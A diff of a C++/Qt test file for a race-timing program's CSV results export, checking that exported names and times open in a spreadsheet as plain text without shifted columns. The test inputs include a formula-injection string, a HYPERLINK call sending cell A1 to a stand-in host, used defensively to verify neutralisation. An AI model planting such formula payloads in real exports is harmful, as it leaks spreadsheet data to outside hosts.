@@ -9,6 +9,7 @@
 #include "protocol/ExcelExport.h"
 #include "protocol/ExportText.h"
 #include "protocol/ProtocolFiles.h"
+#include "protocol/ResultsCsv.h"
 #include "protocol/WordExport.h"
 
 #include "support/RecordingShell.h"
@@ -143,8 +144,9 @@ private slots:
     // What a registration form may put into a start list: a spreadsheet
     // opening the CSV export shows each of these as the text it is (a
     // formula-like one at most with its protective apostrophe, a TAB or line
-    // break as the blank the writer puts in its place), computes no formula
-    // and shifts no column; the program reads the file back as it was.
+    // break as the blank the writer puts in its place, trimmed at the ends as
+    // the loader trims it), computes no formula and shifts no column; the
+    // program reads the file back as it was.
     void csv_opensWithTextCellsOnly_andNothingShifted()
     {
         const QStringList hostile { QStringLiteral("=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")"),
@@ -181,7 +183,7 @@ private slots:
         for (int i = 0; i < hostile.size(); ++i) {
             const QString row = QString::number(i + 2);
             const QString shown = texts.value(QStringLiteral("B") + row);
-            const QString expected = WithoutCellBreaks(hostile[i]);
+            const QString expected = TrimBlanks(WithoutCellBreaks(hostile[i]));
             QVERIFY2(shown == expected || shown == QLatin1Char('\'') + expected,
                 qPrintable(QStringLiteral("B%1: %2").arg(row, shown)));
             // Nothing shifted: the start time is still in column C.
@@ -198,6 +200,41 @@ private slots:
             row[protocol::kColName] = TrimBlanks(WithoutCellBreaks(row[protocol::kColName]));
             QCOMPARE(loaded->rows[size_t(i)], row);
         }
+    }
+
+    // Opened with a comma as a separator besides the semicolon (as a
+    // spreadsheet's import is often set), the results of a race with classes keep every name and time
+    // in its column: "2,79" and "1.00,00" are not split, " =3+3" keeps its
+    // blank, and "Gesamt" follows "Platz".
+    void resultsCsv_withCommaSeparator_splitsNoCell()
+    {
+        TCellStore cells(protocol::kTableColCount, 4);
+        for (int c = 0; c < protocol::kTableColCount; ++c)
+            cells.SetCell(c, 0, protocol::kTableHeaders[static_cast<size_t>(c)]);
+        cells.SetRow(1, { "1", "2,79", "10:00.00,00", "1.00,00", "0,00", "1", "60000", "Damen", "", "2" });
+        cells.SetRow(2, { "2", " =3+3", "10:00.10,00", "0.50,00", "0,10", "1", "50000", "Herren", "", "1" });
+        cells.SetRow(3, { "3", "Berg; \"Blitz\"", "10:00.20,00", "", "0,20", "", "600", "Herren", "DNF", "" });
+        const QString csv = m_dir.filePath(QStringLiteral("ergebnis.csv"));
+        QVERIFY(protocol::WriteResultsCsv(cells, { "Herren", "Damen" }, csv));
+        const QString xlsx = convertFile(
+            csv, QStringLiteral("xlsx"), QStringLiteral(".xlsx"), { QStringLiteral("--infilter=CSV:59/44,34,76,1") });
+        QVERIFY(!xlsx.isEmpty());
+        const QByteArray sheet = ReadZipEntry(xlsx, QStringLiteral("xl/worksheets/sheet1.xml"));
+        QVERIFY2(!sheet.contains("<f>") && !sheet.contains("<f "), sheet.constData());
+        const QMap<QString, QString> texts
+            = sheetTexts(sheet, ReadZipEntry(xlsx, QStringLiteral("xl/sharedStrings.xml")));
+        QCOMPARE(texts.value("F1"), QStringLiteral("Platz"));
+        QCOMPARE(texts.value("G1"), QStringLiteral("Gesamt"));
+        QCOMPARE(texts.value("H1"), QStringLiteral("*"));
+        QCOMPARE(texts.value("B2"), QStringLiteral(" =3+3"));
+        QCOMPARE(texts.value("B3"), QStringLiteral("Berg; \"Blitz\""));
+        // Quoted, the name stays one cell; the spreadsheet may still read
+        // it as the number it looks like.
+        QVERIFY2(texts.value("B4") == QStringLiteral("2,79") || texts.value("B4") == QStringLiteral("2.79"),
+            qPrintable(texts.value("B4")));
+        QVERIFY(texts.contains("C4"));
+        QCOMPARE(texts.value("I4"), QStringLiteral("Damen"));
+        QVERIFY(!texts.contains("K2") && !texts.contains("K3") && !texts.contains("K4"));
     }
 
     void workbook_opensWithEveryNameAndTime()
